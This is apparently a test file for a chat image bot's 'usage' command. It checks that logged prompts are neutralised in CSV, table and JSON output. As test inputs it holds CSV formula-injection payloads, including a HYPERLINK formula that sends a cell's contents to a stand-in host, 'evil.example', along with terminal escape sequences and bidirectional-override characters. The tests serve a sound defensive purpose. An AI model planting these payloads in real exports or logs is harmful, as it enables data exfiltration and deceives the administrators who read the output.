"""`imgbot usage` shows prompts typed in chat: untrusted text that must not become a formula
in the admin's spreadsheet, nor an escape sequence in the admin's terminal (from the table
or from JSON)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import yaml

from bot.store import db as database
from bot.store import usage

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RECOLOUR = "\x1b[31mred\x1b[0m cat\u202e"  # an ANSI colour and a right-to-left override


async def logged(tmp_path: Path, prompts: list[str]) -> Path:
    """A config whose usage log holds one finished job per prompt, by @mallory."""
    state = tmp_path / "state"
    db = await database.connect(state / "imgbot.sqlite3")
    try:
        for prompt in prompts:
            row = await usage.record_job(
                db,
                usage.NewJob(
                    None, "!room:corp.example", "@mallory:corp.example", prompt, {}, -3, "tiny"
                ),
            )
            await usage.finish_job(db, row, status="ok", images=1)
    finally:
        await db.close()
    config = tmp_path / "config.yaml"
    config.write_text(
        yaml.safe_dump(
            {
                "matrix": {
                    "homeserver_url": "http://127.0.0.1:1",
                    "user_id": "@imgbot:corp.example",
                },
                "state_dir": str(state),
            }
        )
    )
    return config


def imgbot_usage(config: Path, *args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "bot.cli", "usage", "-c", str(config), "--since", "all", *args],
        cwd=ROOT,
        capture_output=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.decode()  # as it is: no newline translation of a \r in a cell


async def test_csv_cells_that_start_like_a_formula_are_text(tmp_path):
    prompts = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\tindented", "\rback", "a cat"]
    config = await logged(tmp_path, prompts)
    rows = list(csv.DictReader(io.StringIO(imgbot_usage(config, "--format", "csv"), newline="")))
    assert [r["prompt"] for r in rows] == ["'" + p for p in prompts[:-1]] + ["a cat"]
    assert rows[0]["prompt"].startswith("'=")
    assert rows[0]["user_id"] == "'@mallory:corp.example"
    assert rows[0]["seed"] == "-3"  # a number stays a number
    assert rows[0]["room_id"] == "!room:corp.example"
    by_user = list(
        csv.DictReader(io.StringIO(imgbot_usage(config, "--format", "csv", "--by", "user")))
    )
    assert by_user[0]["user"] == "'@mallory:corp.example"


async def test_the_table_shows_no_escape_sequence(tmp_path):
    config = await logged(tmp_path, [RECOLOUR, "two\nlines"])
    table = imgbot_usage(config)
    assert "\x1b" not in table and "\u202e" not in table
    assert "[31mred [0m cat" in table
    lines = table.splitlines()
    assert len(lines) == 1 + 2 + 1  # the header, a line per job, the summary
    assert lines[2].rstrip().endswith("two lines")


async def test_csv_cells_that_start_like_a_formula_after_spaces_or_in_fullwidth_are_text(tmp_path):
    prompts = [
        "  =1+1",
        " \u200b@SUM(A1:A9)",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "a = b",
        " a cat",
    ]
    config = await logged(tmp_path, prompts)
    rows = list(csv.DictReader(io.StringIO(imgbot_usage(config, "--format", "csv"), newline="")))
    assert [r["prompt"] for r in rows] == ["'" + p for p in prompts[:-2]] + prompts[-2:]


async def test_json_writes_what_would_steer_the_terminal_as_escapes(tmp_path):
    prompts = [
        "\x9b31mred\x9b0m cat",  # CSI as one C1 control: a terminal recolours
        "\x1b[2Jcleared",  # ESC, which JSON escapes by itself
        "a cat\u202e tac a",  # a right-to-left override
        "tagged\U000e0041\u2028split",  # a tag character and a line separator
        "un café, 猫",  # everything else stays as it is
    ]
    config = await logged(tmp_path, prompts)
    out = imgbot_usage(config, "--format", "json")
    assert [r["prompt"] for r in json.loads(out)] == prompts  # the same strings
    for shown in ("\x9b", "\x1b", "\u202e", "\U000e0041", "\u2028"):
        assert shown not in out
    assert "\\u009b31mred" in out and "\\u202e" in out and "\\udb40\\udc41" in out
    assert "un café, 猫" in out
